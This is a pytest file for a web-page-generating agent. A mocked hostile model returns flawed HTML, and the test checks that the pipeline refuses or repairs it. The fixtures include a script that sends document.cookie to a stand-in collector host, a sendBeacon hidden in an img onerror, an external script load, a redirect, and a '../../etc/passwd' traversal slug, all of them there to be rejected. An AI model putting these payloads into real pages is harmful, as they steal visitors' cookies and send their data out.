"""A five-page app by a model with bad habits: what comes out is good pages, and a clear word on what was refused."""

import asyncio
import json
import re
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from loopwright.agents.pages.compliance import validate_page
from loopwright.app.loopwright import Loopwright
from loopwright.app.starting import NewRun, create_run
from loopwright.cli.answers import AnswerSource
from loopwright.cli.views import JsonView, follow
from tests.agents.pages.studio import CSS, fenced, page
from tests.support.application import settings_in
from tests.support.browser import check_page_in_chromium
from tests.support.model_server import Reply, Request, text
from tests.support.pages_model import PagesModelServer, Turn, call, material_of, native, task_of
from tests.support.scripts import closing

SLUGS = ("index", "menu", "cart", "rewards", "profile")
PLAN = "Pages: Home, Menu, Cart, Rewards, Profile"
SECTIONS = "".join(f'<section id="part-{n}"><h2>Part {n}</h2><p>Words of part {n}.</p></section>\n' for n in range(6))


def good(slug: str, **changes: str) -> str:
    """A page that is as it should be, with links to all pages."""
    html = page(slug, SLUGS, body=SECTIONS)
    for old, new in changes.items():
        html = html.replace({"nav": "</nav>", "end": "</body>", "first": "<h2>Part 0</h2>"}[old], new)
    return html


def wrong_links(slug: str) -> str:
    """Links in every form but the right one."""
    html = good(slug)
    for number, target in enumerate(SLUGS):
        forms = (
            f"/{target}",
            f"./{target}.htm",
            f"pages/{target}.html?from=here#part-1",
            target,
            f"{target.upper()}.html",
        )
        html = html.replace(f'href="{target}.html"', f'href="{forms[number]}"')
    return html


INVENTED = good("index", first='<h2 style="color: var(--super-brand); padding: var(--space-99)">Part 0</h2>')
CALLS_OUT = good("menu", end="<script>fetch('https://collect.example/?' + document.cookie)</script></body>")
LOADS = good("cart", end='<script src="https://cdn.example/app.js"></script></body>')
BEACON = good("cart", end="<img src=x onerror=\"navigator.sendBeacon('https://collect.example', 1)\"></body>")
LEAVES = good("rewards", end="<script>location.href = 'https://elsewhere.example'</script></body>")
UNFINISHED = good("profile")[:900]

HABITS: dict[str, list[str]] = {
    # Words, a fence in a fence, variables that nobody has defined.
    "index": [f"Sure! Here is your page:\n\n```html\n{INVENTED}```\n\nLet me know!"],
    "menu": [fenced("html", CALLS_OUT), f"<think>hm, <html>?</think>\n{fenced('html', wrong_links('menu'))}"],
    # Calls out twice: the call fails, and the model has to begin anew.
    "cart": [fenced("html", LOADS), fenced("html", BEACON), wrong_links("cart")],
    "rewards": [fenced("html", LEAVES), f"```\n{good('rewards')}\n```\n```html\n{good('rewards')}\n```"],
    "profile": [f"```html\n{UNFINISHED}", fenced("html", good("profile", end="<script>go(</script></body>"))],
}


def edit_habits(html: str) -> list[str]:
    """What comes where an edit of the rewards page is wanted: that its first part is called Stars."""
    lossy = re.sub(r'<section id="part-[2-5]".*?</section>\n', "", html, flags=re.DOTALL)
    whole = html.replace("<h2>Part 0</h2>", "<h2>Stars</h2>")
    return [
        fenced("html", lossy.replace("<h2>Part 0</h2>", "<h2>Stars</h2>")),  # a whole page that has lost four parts
        fenced("html", lossy),
        f"I rewrote it for you.\n```html\n{whole}\n```",  # a whole page that has lost nothing
    ]


@dataclass
class Hostile(PagesModelServer):
    """Answers tools by its habits, in turn for each page; where none is left, as a good model."""

    asked: Counter[str] = field(default_factory=Counter)

    def reply_to(self, request: Request) -> Reply:
        task = task_of(request)
        if task == "pages/design-system":
            hostile = "@import url('https://fonts.example/x.css');\n" + CSS
            return text(f"Of course!\n```css\n{hostile}\n```", piece=2_000)
        if task not in ("pages/generate-page", "pages/edit-page"):
            return super().reply_to(request)
        material = material_of(request)
        key = f"{task}:{material['slug']}"
        turn, self.asked[key] = self.asked[key], self.asked[key] + 1
        habits = HABITS[material["slug"]] if task == "pages/generate-page" else edit_habits(material["html"])
        if task == "pages/edit-page" and material["slug"] == "profile":
            habits = ["<<<<<<< SEARCH\n<script>go(</script>\n=======\n>>>>>>> REPLACE\nThe broken script is gone."]
        return text(habits[min(turn, len(habits) - 1)], piece=2_000)


def make(slug: str, title: str = "") -> tuple[str, dict[str, Any]]:
    """A call that makes a page."""
    return ("generate_page", {"slug": slug, "title": title or slug.capitalize(), "description": f"The page {slug}."})


BUILD = (
    call("analyze_brief", user_request=f"A coffee shop app. {PLAN}"),
    Turn(calls=(make("../../etc/passwd"), make("Menu Page.html"))),
    call("create_design_system", product_type="food_and_drink"),
    Turn(calls=tuple(make(slug) for slug in SLUGS)),
    call("generate_page", slug="cart", title="Cart", description="The order."),
    call("edit_page", slug="profile", edit_instructions="Remove the script that does not compile"),
    call("edit_page", slug="rewards", edit_instructions='Call the first part "Stars"'),
    call("edit_page", slug="rewards", edit_instructions='Call the first part "Stars"'),
    closing("Five pages are there.", overview="A coffee shop."),
)


async def followed(folder: Path, model: PagesModelServer, capsys: Any) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    """The last line and the events of a run."""
    async with (
        Loopwright.open(settings_in(folder, openai_base_url=model.base_url)) as application,
        asyncio.timeout(120),
    ):
        run = await create_run(application, NewRun(f"A coffee shop app. {PLAN}"))
        code = await follow(application, run.run_id, JsonView(), AnswerSource(accept_defaults=True))
    *events, line = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert code == 0, line
    return line, events


@pytest.mark.browser
async def test_good_pages_or_a_clear_refusal(tmp_path: Path, capsys: Any) -> None:
    async with Hostile(native(*BUILD)) as model:
        line, events = await followed(tmp_path, model, capsys)
        model.assert_done()
    results = [event["payload"] for event in events if event["type"] == "tool_result"]
    failed = [(result["name"], result["output"]) for result in results if not result["success"]]
    told = "\n".join(output for _, output in failed)
    assert [name for name, _ in failed] == ["generate_page"] * 3 + ["edit_page"], told
    assert told.count("slug") >= 2  # the two wrong names
    assert "collect.example" in told
    assert "part-2" in told  # what the whole page would have lost
    assert sorted(line["pages"]) == sorted(SLUGS)
    assert line["valid"], line["issues"]
    folder = tmp_path / "out" / line["session_id"]
    assert sorted(path.stem for path in folder.rglob("*.html")) == sorted(SLUGS)
    css = (folder / "design-system.css").read_text(encoding="utf-8")
    assert "fonts.example" not in css
    for slug in SLUGS:
        path = folder / "pages" / f"{slug}.html"
        html = path.read_text(encoding="utf-8")
        assert not re.search(r"https?://|--super-brand|--space-99|Sure!|```", html), slug
        assert re.findall(r'href="([a-z]+)\.html', html) == list(SLUGS), slug
        assert html.count("<section") == 6
        assert validate_page(html, css=css, slug=slug, known_slugs=SLUGS).valid
        assert (await check_page_in_chromium(path)).problems() == []
    assert "<h2>Stars</h2>" in (folder / "pages" / "rewards.html").read_text(encoding="utf-8")
    edited = [r for r in results if r["name"] == "edit_page" and r["success"] and r["artifacts"]["slug"] == "rewards"]
    assert edited[-1]["artifacts"]["preserved"]["share"] == 1.0
